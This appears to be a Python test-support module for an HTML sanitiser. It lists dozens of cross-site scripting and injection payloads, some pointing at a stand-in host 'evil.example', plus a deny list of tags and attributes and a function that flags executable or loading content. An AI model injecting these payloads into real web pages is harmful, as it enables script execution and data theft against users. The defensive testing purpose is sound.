"""Texts that try to become script, and what no page may hold whatever its text was."""

from __future__ import annotations

import re

from bs4 import BeautifulSoup

ATTACKS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus x='",
    "<img src=`x` onerror=alert(1)//",
    "<img/src/onerror=alert(1)",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    '![x](x.png "onerror=alert(1)")',
    '![x" onerror="alert(1)](x.png)',
    "![<script>alert(1)</script>](x.png)",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1));width:expression(alert(1))'>x</p>",
    "<form action='https://evil.example/'><input name=x><button formaction='javascript:alert(1)'>x</button></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='data:text/html,<script>alert(1)</script>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<video><source onerror=alert(1)></video>",
    "<img src='https://evil.example/pixel.png' alt='x>y'>",
    "<div id=main class=ss-asleep>x</div>",
    "<ss-quiz data-quiz='first-before'><article data-item=x></article></ss-quiz>",
    "{{ 7 * 7 }}{% include 'page.html.j2' %}",
    "\u2028</script\u2029><script >alert(1)</script >",
]

BARRED = {
    "script",
    "style",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "base",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "meta",
    "link",
    "template",
    "noscript",
    "portal",
    "animate",
    "set",
    "foreignobject",
}
ADDRESSES = {
    "href",
    "src",
    "xlink:href",
    "action",
    "formaction",
    "data",
    "srcdoc",
    "srcset",
    "poster",
    "background",
    "cite",
}
LOADED = {"img", "source", "video", "audio", "track", "use", "image", "feimage", "embed", "script", "link", "iframe"}


def dangers(html: str, ours: frozenset[str] = frozenset()) -> list[str]:
    """What in this HTML could run, load or send; ``ours`` names elements that the caller looks at itself."""
    found = []
    for tag in BeautifulSoup(html, "html.parser", multi_valued_attributes=None).find_all(True):
        name = tag.name.lower()
        if name in BARRED - ours:
            found.append(f"<{name}>")
        for attribute, value in tag.attrs.items():
            if attribute.lower().startswith("on") or attribute.lower() in {"style", "srcdoc"}:
                found.append(f"<{name} {attribute}>")
            if attribute.lower() in ADDRESSES and not _harmless(name, value):
                found.append(f"<{name} {attribute}={value}>")
    return found


def _harmless(tag: str, address: str) -> bool:
    to = re.sub(r"[\x00-\x20\x7f-\x9f\u2028\u2029]", "", address).lower()
    if tag in LOADED:
        return to.startswith("data:image/") or to == "data:," or not re.match(r"[a-z][a-z0-9+.-]*:|//", to)
    return not re.match(r"[a-z][a-z0-9+.-]*:", to) or bool(re.match(r"(https?|mailto):", to))
